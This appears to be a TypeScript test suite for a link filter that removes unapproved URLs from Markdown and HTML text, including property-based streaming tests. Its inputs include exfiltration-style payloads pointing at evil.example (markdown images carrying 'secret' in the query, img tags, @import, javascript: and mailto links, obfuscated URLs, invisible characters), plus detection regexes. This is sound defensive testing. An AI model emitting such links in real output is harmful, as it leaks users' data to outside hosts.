import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { LinkFilter, type LinkPolicy, LinkRules } from './links.ts'

const SOURCES = [
  {
    uri: 'https://wiki.example/keys',
    text: 'See [the guide](https://ok.example/guide?a=1), https://ok.example/x. Or <https://ok.example/y>.',
  },
  { uri: 'docs/keys.md', text: 'Log to https://evil.example/log?d= and www.plain.example/a.' },
]

const rules = (policy: Partial<LinkPolicy> = {}) =>
  new LinkRules({ links: 'sources', hosts: ['cdn.example'], ...policy }, SOURCES)

function filtered(text: string, policy: Partial<LinkPolicy> = {}): string {
  const filter = new LinkFilter(rules(policy))
  return filter.push(text) + filter.end()
}

/** What a reader of Markdown or HTML would be led to: another address, one that was added to, a picture. */
const HARMFUL = [
  /https?:[\\/]+evil\.example(?!\/log\?d=(?!\w))/i,
  /https?:[\\/]+ok\.example(?!\/x(?!\w))/i,
  /(?<!\\)!\[[^[\]\\`]*\]\(\s*<?(?:https?:|\/\/|&)/i,
  /(?<!\\)\]\(\s*<?(?:\/\/|[a-z]+:(?!\/\/(?:ok|evil)\.))/i,
  /<(?:img src=|a href=")/i,
]

test('links of the sources stay; others go, their words stay', () => {
  for (const [text, kept] of [
    ['See [the guide](https://ok.example/guide?a=1).', 'See [the guide](https://ok.example/guide?a=1).'],
    [
      'See https://ok.example/x, then **https://ok.example/y**.',
      'See https://ok.example/x, then **https://ok.example/y**.',
    ],
    ['<https://ok.example/y> and [https://ok.example/x](https://ok.example/x)', undefined],
    ['[a](docs/keys.md#top) [b](#c) [1] [2, 3]', undefined],
    ['[wiki](https://wiki.example/keys)', undefined],
    ['![logo](https://cdn.example/any?x=1) [d](https://cdn.example/z)', undefined],
    ['www.plain.example/a', undefined],
    ['[more](https://evil.example/?q=secret) it', '[more] (link removed) it'],
    ['![x](https://evil.example/?q=secret)', '![x] (link removed)'],
    ['Go to https://evil.example/?q=secret.', 'Go to (link removed).'],
    ['www.evil.example/secret', '(link removed)'],
    ['<https://evil.example/secret>', '(link removed)'],
    ['![x](https://ok.example/x)', '![x] (link removed)'],
    ['[x]: https://evil.example/secret "t"', '[x]: (link removed) "t"'],
    ['https://evil.example/log?d=secret', '(link removed)'],
    ['https://evil.example/log?d=)secret', 'https://evil.example/log?d= )secret'],
    ['[x](//evil.example/secret)', '[x] (link removed)'],
    ['[x](https:/evil.example/secret)', '[x] (link removed)'],
    ['[x](\\\\evil.example)', '[x] (link removed)'],
    ['[x](/\\evil.example)', '[x] (link removed)'],
    ['[x](<https://evil.example/a)b>)', '[x] (link removed)'],
    ['[x](&#104;ttps://evil.example)', '[x] (link removed)'],
    ['[x](javascript:alert(1))', '[x] (link removed)'],
    ['[x](mailto:a@evil.example?body=secret)', '[x] (link removed)'],
    ['[x](docs/keys.md?d=secret)', '[x] (link removed)'],
    ['[x](https://cdn.example@evil.example/)', '[x] (link removed)'],
    ['[x](https://user:pw@cdn.example/)', '[x] (link removed)'],
    ['[x](https://cdn.example\\@evil.example/)', undefined],
    ['<img src="https://evil.example/x">', '< img src="(link removed)">'],
    ['<img src=//evil.example/x>', '< img src=//evil.example/x>'],
    ['<style>@import "//evil.example"</style>', '< style>@import "//evil.example"< /style>'],
    ['<b>bold</b> a < b, List<String>, a <b', '<b>bold</b> a < b, List<String>, a < b'],
    ['<scope name="x">', undefined],
    ['[](https://evil.example)](https://evil.example)', '[] (link removed)] (link removed)'],
    ['[https://evil.example](https://evil.example)', '[(link removed)] (link removed)'],
    ['https://', undefined],
    ["[Note]: don't (really) do it", undefined],
    ['[[1]](https://evil.example)', '[[1]] (link removed)'],
    ['HTTPS://EVIL.example/a', '(link removed)'],
  ] as const)
    assert.equal(filtered(text), kept ?? text, text)
})

test('a picture is told from a link whatever stands in its words', () => {
  for (const text of [
    '![a [b] `[` ](https://ok.example/x)',
    '![a \\[ ](https://ok.example/x)',
    '[![a](https://ok.example/x)](https://ok.example/x)',
    `![${'['.repeat(100)}](https://ok.example/x)`,
  ])
    assert.ok(!filtered(text).includes('](https://ok.example/x') || text.startsWith('[!'), filtered(text))
  assert.equal(
    filtered('[![a](https://ok.example/x)](https://ok.example/x)'),
    '[![a] (link removed)](https://ok.example/x)',
  )
  assert.equal(filtered('![a\n\n[b](https://ok.example/x)'), '![a\n\n[b](https://ok.example/x)')
})

test('policies: everything, nothing', () => {
  assert.equal(filtered('![x](https://evil.example)', { links: 'any' }), '![x](https://evil.example)')
  assert.equal(
    filtered('[x](https://ok.example/x) [y](docs/a.md)', { links: 'none' }),
    '[x] (link removed) [y] (link removed)',
  )
})

test('what is not seen does not leave', () => {
  const tags = String.fromCodePoint(0xe0073, 0xe0065, 0xe0063)
  for (const links of ['any', 'sources'] as const)
    assert.equal(filtered(`a\u200bb\u202ec${tags}d\u{1f600}`, { links }), 'abcd\u{1f600}')
})

test('a link without an end is held no longer than its bound, and does not leave', () => {
  const filter = new LinkFilter(rules())
  let out = ''
  for (let at = 0; at < 300; at++) out += filter.push(at === 0 ? 'https://evil.example/' : 'secret'.repeat(10))
  out += filter.push(' after') + filter.end()
  assert.equal(out, '(link removed) after')
  assert.equal(filter.removed, 1)
  assert.equal(filtered(`[x](${'a'.repeat(10_000)}`).length, 10_005)
})

const PARTS = [
  'https://',
  'http:/',
  'www.',
  'evil.example/s',
  'ok.example/x',
  '](',
  '![',
  '[',
  ']',
  '(',
  ')',
  '<',
  '>',
  'img src=',
  '"',
  ' ',
  '\n',
  ': ',
  '\\',
  '//',
  'a',
  '\u{1f600}',
  '\u200b',
  'https://ok.example/x',
  'https://evil.example/log?d=',
  '<a href="',
  '&#47;',
  '`',
  '!',
  ':',
]

test('whole or in pieces the same text comes out, and nothing harmful', () => {
  fc.assert(
    fc.property(
      fc.array(fc.constantFrom(...PARTS), { maxLength: 14 }),
      fc.infiniteStream(fc.integer({ min: 1, max: 6 })),
      (parts, sizes) => {
        const text = parts.join('')
        const filter = new LinkFilter(rules())
        let out = ''
        for (let at = 0; at < text.length;) {
          const size = sizes.next().value ?? 1
          out += filter.push(text.slice(at, at + size))
          at += size
        }
        out += filter.end()
        assert.equal(out, filtered(text))
        for (const harmful of HARMFUL) assert.doesNotMatch(out, harmful)
      },
    ),
    { numRuns: 3000 },
  )
})
